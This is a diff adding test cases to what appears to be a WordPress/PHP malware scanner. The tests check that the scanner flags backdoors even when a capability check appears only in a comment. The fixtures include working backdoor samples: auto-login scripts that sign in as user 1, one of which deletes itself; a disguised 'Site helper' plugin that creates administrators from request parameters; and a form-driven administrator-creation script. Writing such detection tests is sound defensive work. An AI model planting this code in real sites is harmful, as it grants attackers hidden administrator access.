@@ -65,3 +65,100 @@ describe('scan: session 32, the packed loader written other ways (S31S-35 to -42
     assert.equal(LOADER_LOOKALIKES.length, 5);
   });
 });
+
+// S31S: a word a rule excludes (a capability check, request input, the variable set) written in a comment stopped
+// the rule; and the standalone WordPress login's loader file named through a variable or pieces
+const NEGATED: [string, string][] = [
+  ['a WordPress auto-login with current_user_can( in a comment', `<?php
+@unlink(__FILE__);
+require('../../wp-blog-header.php');
+// only for admins: current_user_can('manage_options') is checked by the theme
+$u = get_userdata(1);
+wp_clear_auth_cookie();
+wp_set_current_user($u->ID);
+wp_set_auth_cookie($u->ID);
+wp_safe_redirect(admin_url());
+exit;
+`],
+  ['a WordPress auto-login whose loader path is held in a variable', `<?php
+$p = dirname(__FILE__) . '/../../wp-load.php';
+require $p;
+$u = get_userdata(1);
+wp_set_current_user($u->ID);
+wp_set_auth_cookie($u->ID);
+wp_safe_redirect(admin_url());
+exit;
+`],
+  ['a WordPress auto-login whose loader path is joined from pieces, the check named in a block comment', `<?php
+/* helper: current_user_can() */
+$w = array('..', '..', 'wp-load.php');
+require_once implode('/', $w);
+$u = new WP_User(1);
+wp_set_auth_cookie($u->ID, true);
+header('Location: /wp-admin/');
+`],
+  ['a hook making an administrator from the request, a capability check only in a comment', `<?php
+/* Plugin Name: Site helper */
+// runs for admins only: current_user_can('manage_options')
+add_action('init', function () {
+  if (isset($_GET['mk'])) {
+    $id = wp_create_user($_GET['mk'], $_GET['pw'], 'a@example.com');
+    $u = new WP_User($id);
+    $u->set_role('administrator');
+  }
+});
+`],
+  ['a script making an administrator from a form, is_user_logged_in( in a comment', `<?php
+require 'wp-load.php';
+/* is_user_logged_in() is not needed here */
+$id = wp_insert_user(array('user_login' => $_POST['u'], 'user_pass' => $_POST['p'], 'role' => 'administrator'));
+echo $id;
+`],
+];
+const NEGATED_LOOKALIKES: [string, string][] = [
+  ['a WordPress login helper that checks the capability in code', `<?php
+require('../../wp-blog-header.php');
+if (!current_user_can('manage_options')) { wp_die('no'); }
+$u = get_userdata(1);
+wp_set_current_user($u->ID);
+wp_set_auth_cookie($u->ID);
+wp_safe_redirect(admin_url());
+`],
+  ['a hook making an administrator from the request behind a nonce check in code', `<?php
+add_action('admin_init', function () {
+  if (isset($_POST['mk']) && check_admin_referer('mk-user')) {
+    $id = wp_create_user($_POST['mk'], $_POST['pw'], 'a@example.com');
+    $u = new WP_User($id);
+    $u->set_role('administrator');
+  }
+});
+`],
+  ['a WordPress tool quoting wp-load.php in a message, signing in the account it is given by a verified token', `<?php
+// usage: copy next to wp-load.php
+require __DIR__ . '/wp-load.php';
+$id = (int) get_transient('magic_' . md5($_GET['t'] ?? ''));
+if ($id) { wp_set_auth_cookie($id); }
+`],
+];
+
+describe('scan: session 32, a rule\'s excluded words in a comment; the WordPress loader named another way', () => {
+  for (const [name, src] of NEGATED) {
+    it(`malicious: ${name}`, () => {
+      const r = scan(src, '/www/wp-content/x.php');
+      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
+    });
+  }
+  for (const [name, src] of NEGATED_LOOKALIKES) {
+    it(`not malicious: ${name}`, () => {
+      const r = scan(src, '/www/wp-content/x.php');
+      assert.notEqual(r.verdict, 'malicious', JSON.stringify(r.findings));
+    });
+  }
+  it('a probe never stands as a finding of its own', () => {
+    for (const [, src] of [...NEGATED, ...NEGATED_LOOKALIKES]) assert.equal(scan(src, '/www/x.php').findings.some((f) => f.rule.endsWith('__unless')), false);
+  });
+  it('ran every case', () => {
+    assert.equal(NEGATED.length, 5);
+    assert.equal(NEGATED_LOOKALIKES.length, 3);
+  });
+});
